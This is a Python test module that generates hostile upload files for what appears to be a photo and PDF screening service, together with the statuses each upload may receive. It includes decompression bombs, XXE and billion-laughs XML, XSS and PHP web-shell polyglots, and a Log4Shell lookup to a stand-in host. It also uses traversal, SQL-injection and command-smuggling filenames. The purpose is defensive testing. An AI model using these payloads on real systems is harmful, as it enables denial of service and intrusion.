"""Files that mean harm, or that harm befell: made here, none stored.

Each comes with the statuses that are right for it. A picture that is whole, if odd, may be screened;
what lies about its size or never ends must not be.
"""

import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

import numpy as np
import pillow_heif
from PIL import Image, PngImagePlugin
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

REFUSED = frozenset({413, 415, 422})
EITHER = REFUSED | {201}
SCREENED = frozenset({201})

pillow_heif.register_heif_opener()


@dataclass(frozen=True, slots=True)
class Hostile:
    """One upload: the name that its file claims, its bytes, and what may be answered."""

    family: str
    name: str
    content: bytes
    statuses: frozenset[int]


def everything() -> list[Hostile]:
    """The whole corpus."""
    families: list[Callable[[], Iterator[tuple[str, bytes, frozenset[int]]]]] = [
        _nothing, _other_formats, _oversized_headers, _png_bombs, _jpeg_bombs, _tiff_bombs,
        _animations, _pdf_bombs, _pdf_odd, _polyglots, _broken_metadata, _cut_short, _changed,
        _zeroed, _odd_modes, _odd_names,
    ]  # fmt: skip
    return [
        Hostile(family.__name__.strip("_"), name, content, statuses)
        for family in families
        for name, content, statuses in family()
    ]


@cache
def _picture() -> Image.Image:
    rng = np.random.default_rng(1)
    pixels = rng.integers(0, 255, (64, 96, 3), np.uint8)
    return Image.fromarray(pixels)


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    stream = io.BytesIO()
    picture.save(stream, kind, **options)
    return stream.getvalue()


@cache
def _whole() -> dict[str, bytes]:
    picture = _picture()
    return {
        "jpg": _saved(picture, "JPEG", quality=90),
        "progressive.jpg": _saved(picture, "JPEG", quality=90, progressive=True),
        "png": _saved(picture, "PNG"),
        "webp": _saved(picture, "WEBP"),
        "lossless.webp": _saved(picture, "WEBP", lossless=True),
        "tif": _saved(picture, "TIFF"),
        "lzw.tif": _saved(picture, "TIFF", compression="tiff_lzw"),
        "bmp": _saved(picture, "BMP"),
        "avif": _saved(picture, "AVIF", quality=80, speed=10),
        "heic": _saved(picture, "HEIF", quality=80),
        "pdf": _pdf(1),
    }


def _pdf(pages: int, **options: object) -> bytes:
    stream = io.BytesIO()
    canvas = Canvas(stream, pagesize=(200, 100), **options)
    for number in range(pages):
        canvas.drawString(20, 50, f"PAGE {number + 1}")
        canvas.showPage()
    canvas.save()
    return stream.getvalue()


def _nothing():
    yield "empty.jpg", b"", REFUSED
    for size in (1, 2, 3, 11, 100, 65_536):
        yield f"zeros-{size}.jpg", bytes(size), REFUSED
    yield "noise.jpg", random.Random(1).randbytes(50_000), REFUSED
    yield "newlines.pdf", b"\r\n" * 5000, REFUSED


def _other_formats():
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='file:///etc/passwd'/></svg>"
    page = b"<!doctype html><script>alert(document.domain)</script>"
    entities = b"<!DOCTYPE a [<!ENTITY b '%s'>%s]><a>&c9;</a>" % (
        b"x" * 99,
        b"".join(b"<!ENTITY c%d '%s'>" % (n, b"&b;" * 10) for n in range(10)),
    )
    for name, content in {
        "passport.jpg": svg, "passport.png": page, "passport.webp": entities,
        "passport.gif": b"GIF89a" + bytes(100), "passport.zip": b"PK\x03\x04" + bytes(100),
        "passport.exe": b"MZ" + bytes(200), "passport.elf": b"\x7fELF" + bytes(200),
        "passport.ps": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", "passport.psd": b"8BPS" + bytes(90),
        "passport.mp4": b"\0\0\0\x18ftypisom" + bytes(90), "passport.jp2": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(90),
        "passport.ico": b"\0\0\x01\0\x01\0" + bytes(90), "passport.mvg": b"push graphic-context\nurl(https://example.invalid)",
        "passport.gz": b"\x1f\x8b\x08" + bytes(90), "passport.jxl": b"\xff\x0a" + bytes(90),
        "passport.wmf": b"\xd7\xcd\xc6\x9a" + bytes(90), "passport.docx": b"PK\x03\x04[Content_Types].xml" + bytes(90),
        "passport.py": b"#!/usr/bin/env python\nimport os\n",
    }.items():  # fmt: skip
        yield name, content, REFUSED


def _chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def _png(width: int, height: int, depth: int, colour: int, packed: bytes, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + b"".join(more)
        + _chunk(b"IDAT", packed)
        + _chunk(b"IEND", b"")
    )


def _oversized_headers():
    """65,500 pixels a side by the header, in every format that has one."""
    large = 65_500
    yield "large.png", _png(large, large, 8, 2, zlib.compress(b"")), REFUSED
    yield "wide.png", _png(2**31 - 1, 1, 8, 2, zlib.compress(b"")), REFUSED
    yield "tall.png", _png(1, 2**31 - 1, 1, 0, zlib.compress(b"")), REFUSED
    yield "none.png", _png(0, 0, 8, 2, zlib.compress(b"")), REFUSED
    jpeg = bytearray(_whole()["jpg"])
    for marker in (b"\xff\xc0", b"\xff\xc1", b"\xff\xc2"):
        at = bytes(jpeg).find(b"\xff\xc0")
        for height, width in ((large, large), (0, 96), (64, 0), (large, 1), (1, large)):
            changed = bytearray(jpeg)
            changed[at : at + 2] = marker
            changed[at + 5 : at + 9] = struct.pack(">HH", height, width)
            yield f"{marker[1]:x}-{height}x{width}.jpg", bytes(changed), REFUSED
    tiff = bytearray(_saved(_picture(), "TIFF"))
    for tag in (256, 257, 258, 277, 278, 279):
        at = bytes(tiff).find(struct.pack("<H", tag) + b"\x03\0")
        at = at if at >= 0 else bytes(tiff).find(struct.pack("<H", tag) + b"\x04\0")
        if at >= 0:
            changed = bytearray(tiff)
            changed[at + 8 : at + 12] = struct.pack("<I", large)
            yield f"tag-{tag}.tif", bytes(changed), EITHER
    bmp = bytearray(_whole()["bmp"])
    for width, height in ((large, large), (-1, -1), (2**31 - 1, 1), (0, 0)):
        changed = bytearray(bmp)
        changed[18:26] = struct.pack("<ii", width, height)
        yield f"{width}x{height}.bmp", bytes(changed), REFUSED
    webp = bytearray(_saved(_picture(), "WEBP", exif=b"Exif\0\0"))
    webp[24:30] = b"\xff" * 6
    yield "canvas.webp", bytes(webp), REFUSED
    for kind in ("avif", "heic"):
        content = bytearray(_whole()[kind])
        at = bytes(content).find(b"ispe")
        content[at + 8 : at + 16] = struct.pack(">II", large, large)
        yield f"large.{kind}", bytes(content), EITHER


def _png_bombs():
    """Little that becomes much: pixels, and the four chunks that are packed."""
    row = b"\0" + bytes(7700 * 3)
    yield "60-megapixels.png", _png(7700, 7700, 8, 2, zlib.compress(row * 7700, 9)), EITHER
    yield "61-megapixels.png", _png(7900, 7900, 8, 2, zlib.compress(b"")), REFUSED
    pixels = zlib.compress(b"\0" * 64 * 193)
    much = zlib.compress(bytes(64 * 1024 * 1024), 9)
    for name, chunk in {
        "ztxt": _chunk(b"zTXt", b"Comment\0\0" + much),
        "iccp": _chunk(b"iCCP", b"profile\0\0" + much),
        "itxt": _chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + much),
    }.items():
        yield f"{name}.png", _png(64, 64, 8, 2, pixels, chunk), EITHER
        yield f"{name}-many.png", _png(64, 64, 8, 2, pixels, *[chunk] * 40), EITHER
    yield "overflow.png", _png(64, 64, 8, 2, much), EITHER
    yield "chunks.png", _png(64, 64, 8, 2, pixels, *[_chunk(b"tEXt", b"a\0b")] * 50_000), EITHER
    yield "length.png", _whole()["png"][:33] + struct.pack(">I", 2**31 - 1) + b"IDAT", REFUSED
    turned = PngImagePlugin.PngInfo()
    turned.add_text("Software", "x" * 900_000)
    yield "text.png", _saved(_picture(), "PNG", pnginfo=turned), EITHER


def _jpeg_bombs():
    """A thousand scans, endless padding, thousands of segments."""
    progressive = _whole()["progressive.jpg"]
    first = progressive.find(b"\xff\xda")
    end = progressive.rfind(b"\xff\xd9")
    last = progressive.rfind(b"\xff\xda")
    for scans in (101, 1000, 20_000):
        content = progressive[:end] + progressive[last:end] * scans + b"\xff\xd9"
        yield f"{scans}-scans.jpg", content, REFUSED
    yield "few-scans.jpg", progressive[:end] + progressive[last:end] * 20 + b"\xff\xd9", EITHER
    yield "no-scan.jpg", progressive[:first] + b"\xff\xd9", REFUSED
    plain = _whole()["jpg"]
    yield "fill.jpg", plain[:2] + b"\xff" * 500_000 + plain[2:], EITHER
    comment = b"\xff\xfe\xff\xff" + b"x" * 65_533
    yield "comments.jpg", plain[:2] + comment * 200 + plain[2:], EITHER
    yield "exifs.jpg", plain[:2] + b"\xff\xe1\x00\x08Exif\0\0" * 5000 + plain[2:], EITHER
    tables = b"\xff\xdb\x00\x43\x00" + bytes([1] * 64)
    yield "tables.jpg", plain[:2] + tables * 5000 + plain[2:], EITHER
    restarts = b"".join(b"\xff" + bytes([0xD0 + n % 8]) for n in range(100_000))
    yield "restarts.jpg", plain[:-2] + restarts + plain[-2:], EITHER
    yield "trailing.jpg", plain + bytes(4_000_000), EITHER
    yield "nested.jpg", plain[:2] + b"\xff\xe1\xff\xff" + plain * 20 + plain[2:], EITHER


def _tiff_bombs():
    """Directories that never end, tags that point at themselves, strips of nothing."""
    plain = _saved(_picture(), "TIFF")
    first = struct.unpack("<I", plain[4:8])[0]
    entries = struct.unpack("<H", plain[first : first + 2])[0]
    after = first + 2 + entries * 12
    loop = bytearray(plain)
    loop[after : after + 4] = struct.pack("<I", first)
    yield "loop.tif", bytes(loop), EITHER
    yield "nowhere.tif", plain[:4] + struct.pack("<I", 2**32 - 2) + plain[8:], REFUSED
    for tag in range(entries):
        at = first + 2 + tag * 12
        counted = bytearray(plain)
        counted[at + 4 : at + 8] = struct.pack("<I", 2**31)
        yield f"count-{tag}.tif", bytes(counted), EITHER
    yield "packed.tif", _saved(Image.new("1", (7700, 7700)), "TIFF", compression="group4"), EITHER
    deflated = _saved(Image.new("RGB", (9000, 9000)), "TIFF", compression="tiff_adobe_deflate")
    yield "81-megapixels.tif", deflated, REFUSED
    many = b"II*\0" + struct.pack("<I", 8)
    for number in range(20_000):
        many += struct.pack("<H", 0) + struct.pack("<I", 8 + (number + 1) * 6)
    yield "directories.tif", many, REFUSED


def _animations():
    small = [Image.new("RGB", (32, 32), (n % 255, 0, 0)) for n in range(300)]
    for kind, name, options in (
        ("PNG", "animated.png", {}),
        ("WEBP", "animated.webp", {}),
        ("TIFF", "pages.tif", {}),
    ):
        for frames in (2, 300):
            content = _saved(
                small[0], kind, save_all=True, append_images=small[1:frames], **options
            )
            yield f"{frames}-{name}", content, EITHER
    for kind in ("AVIF", "HEIF"):
        content = _saved(small[0], kind, save_all=True, append_images=small[1:12])
        yield f"12-frames.{kind.lower()}", content, EITHER


def _pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    content = b"%PDF-1.7\n"
    offsets: list[int] = []
    for number, one in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return content + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1, trailer, start,
    )  # fmt: skip


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def _one_page(contents: bytes, *more: bytes, resources: bytes = b"", box: bytes = b"0 0 200 200"):
    return _pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << %s >> >>"
        % (box, resources),
        contents,
        *more,
    )


def _pdf_bombs():
    packed = zlib.compress(zlib.compress(bytes(200 * 1024 * 1024), 9), 9)
    twice = b"/Filter [/FlateDecode /FlateDecode]"
    yield "stream.pdf", _one_page(_stream(packed, twice)), EITHER
    image = (
        b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceRGB " + twice
    )
    draw = _stream(b"200 0 0 200 0 0 cm /I Do")
    yield (
        "image.pdf",
        _one_page(draw, _stream(packed, image), resources=b"/XObject << /I 5 0 R >>"),
        EITHER,
    )
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /I 5 0 R >> >>"
    itself = _stream(b"/I Do /I Do", form)
    yield "itself.pdf", _one_page(draw, itself, resources=b"/XObject << /I 5 0 R >>"), EITHER
    forms = [
        _stream(
            b"/I Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources "
            b"<< /XObject << /I %d 0 R >> >>" % (number + 6),
        )
        for number in range(9)
    ]
    leaf = _stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    yield "laughs.pdf", _one_page(draw, *forms, leaf, resources=b"/XObject << /I 5 0 R >>"), EITHER
    yield (
        "paths.pdf",
        _one_page(_stream(zlib.compress(b"0 0 m 9 9 l S " * 400_000), b"/Filter /FlateDecode")),
        EITHER,
    )
    yield (
        "states.pdf",
        _one_page(_stream(zlib.compress(b"q " * 3_000_000), b"/Filter /FlateDecode")),
        EITHER,
    )
    yield "text.pdf", _one_page(
        _stream(zlib.compress(b"BT /F 9 Tf (" + b"A" * 2_000_000 + b") Tj ET"), b"/Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        resources=b"/Font << /F 5 0 R >>",
    ), EITHER  # fmt: skip
    for number, box in enumerate(
        (b"0 0 1e9 1e9", b"0 0 0 0", b"0 0 -5 -5", b"0 0 14400 1", b"nan inf 0 0", b"0 0 1e-9 9")
    ):
        yield f"box-{number}.pdf", _one_page(_stream(b""), box=box), EITHER
    shading = (
        b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Function << /FunctionType 4 "
        b"/Domain [0 1 0 1] /Range [0 1 0 1 0 1] >> >>"
    )
    yield (
        "shading.pdf",
        _one_page(_stream(b"/S sh"), shading, resources=b"/Shading << /S 5 0 R >>"),
        EITHER,
    )


def _pdf_odd():
    yield "locked.pdf", _pdf(1, encrypt=StandardEncryption("secret", canPrint=0)), REFUSED
    yield (
        "locked-strongly.pdf",
        _pdf(1, encrypt=StandardEncryption("secret", strength=128)),
        REFUSED,
    )
    yield "eleven-pages.pdf", _pdf(11), REFUSED
    yield "thousand-pages.pdf", _pdf(1000), REFUSED
    yield "two-pages.pdf", _pdf(2), SCREENED
    whole = _pdf(1)
    yield "late.pdf", b"\n" * 900 + whole, EITHER
    yield "too-late.pdf", b"\n" * 2000 + whole, REFUSED
    inside = _stream(whole, b"/Type /EmbeddedFile /Subtype /application#2Fpdf")
    yield "nested.pdf", _one_page(_stream(b""), inside), EITHER
    deep = whole
    for _ in range(8):
        deep = _one_page(_stream(b""), _stream(deep, b"/Type /EmbeddedFile"))
    yield "deeply-nested.pdf", deep, EITHER
    yield "script.pdf", _pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ), EITHER  # fmt: skip
    for number, pages in enumerate(
        (
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count -1 >>",
            b"[" * 5000,
        )
    ):
        yield f"pages-{number}.pdf", _pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", pages), EITHER
    yield "xref.pdf", whole.replace(b"startxref", b"startxref\n99999999999999999999"), EITHER
    yield "loop.pdf", _pdf_of(b"1 0 R", trailer=b"/Prev 9"), EITHER


def _polyglots():
    jpeg, png, pdf = _whole()["jpg"], _whole()["png"], _whole()["pdf"]
    page = b"<script>alert(1)</script>"
    for name, content in {
        "jpeg-then-pdf.pdf": jpeg + pdf, "pdf-then-jpeg.jpg": pdf + jpeg,
        "jpeg-then-zip.jpg": jpeg + b"PK\x03\x04" + bytes(99), "jpeg-with-html.html": jpeg[:-2] + page + jpeg[-2:],
        "png-then-html.html": png + page, "html-then-pdf.html": page + pdf,
        "bmp-then-js.js": b"BM=1/*" + bytes(60) + b"*/;alert(1)", "jpeg-comment-php.php": jpeg[:2] + b"\xff\xfe\x00\x1a<?php system($_GET[0]);?>"[:28] + jpeg[2:],
        "pdf-in-png.png": png[:33] + _chunk(b"tEXt", b"c\0" + pdf) + png[33:],
        "riff-wav.webp": b"RIFF\x24\0\0\0WAVEfmt " + bytes(40), "riff-webp-wav.webp": b"RIFF\xff\xff\xff\x7fWEBPWAVE" + bytes(40),
    }.items():  # fmt: skip
        yield name, content, EITHER


def _broken_metadata():
    jpeg = _whole()["jpg"]
    for number, exif in enumerate(
        (
            b"II*\0\x08\0\0\0\xff\xff" + bytes(200),
            b"II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\xff\xff\xff\xff\x06\0\0\0",
            b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x63\0\0\0\0\0\0",
            b"II*\0\x00\0\0\0",
            b"II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0",
        )
    ):
        body = b"Exif\0\0" + exif
        segment = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
        yield f"exif-{number}.jpg", jpeg[:2] + segment + jpeg[2:], EITHER
    for profile in (b"", b"x", bytes(1_000_000)):
        yield f"profile-{len(profile)}.jpg", _saved(_picture(), "JPEG", icc_profile=profile), EITHER
    yield "xmp.jpg", _saved(_picture(), "JPEG", xmp=b"<x:xmpmeta>" + b"\xff" * 60_000), EITHER
    body = b"http://ns.adobe.com/xap/1.0/\0" + b"photoshop" * 7000
    segment = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    yield "many-xmp.jpg", jpeg[:2] + segment * 200 + jpeg[2:], EITHER


def _cut_short():
    """Cut at many places of every format."""
    for kind, content in _whole().items():
        steps = sorted(
            {*range(1, 40, 13), *(len(content) * n // 8 for n in range(1, 8)), len(content) - 1}
        )
        for end in steps:
            yield f"{end}.{kind}", content[:end], EITHER


def _changed():
    """Bytes changed at random in every format, from a fixed seed."""
    chance = random.Random(7)
    for kind, content in _whole().items():
        for turn in range(6):
            changed = bytearray(content)
            for _ in range(1 + turn * 4):
                at = chance.randrange(min(len(changed), 400 if turn % 2 else len(changed)))
                changed[at] = chance.randrange(256)
            yield f"{turn}.{kind}", bytes(changed), EITHER


def _zeroed():
    """A hole as of a connection that was resumed wrongly."""
    for kind, content in _whole().items():
        third = len(content) // 3
        yield f"hole.{kind}", content[:third] + bytes(third) + content[2 * third :], EITHER


def _odd_modes():
    picture = _picture()
    for mode in ("1", "L", "P", "LA", "RGBA", "CMYK", "I;16", "F"):
        made = (
            picture.convert("L").convert("I").convert(mode)
            if mode == "I;16"
            else picture.convert(mode)
        )
        yield f"{mode.replace(';', '')}.tif", _saved(made, "TIFF"), EITHER
    infinite = Image.fromarray(np.full((64, 96), np.inf, np.float32))
    yield "infinite.tif", _saved(infinite, "TIFF"), EITHER
    unknown = Image.fromarray(np.full((64, 96), np.nan, np.float32))
    yield "nan.tif", _saved(unknown, "TIFF"), EITHER
    for size in ((1, 1), (1, 20_000), (20_000, 1), (2, 3)):
        yield f"{size[0]}x{size[1]}.png", _saved(Image.new("RGB", size), "PNG"), EITHER


def _odd_names():
    content = b"GIF89a" + bytes(50)
    for name in (
        "../../../etc/passwd", "C:\\windows\\system32\\a.jpg", "a" * 3000 + ".jpg", "", " ", ".", "..",
        "a\0b.jpg", "パスポート.jpg", "\u202egpj.exe", "';DROP TABLE screenings;--.jpg", "%2e%2e%2f.jpg",
        "{{7*7}}.jpg", "${jndi:ldap://example.invalid}.jpg", "<script>.jpg", "CON", "-rf.jpg", "|id.jpg",
    ):  # fmt: skip
        yield name, content, REFUSED
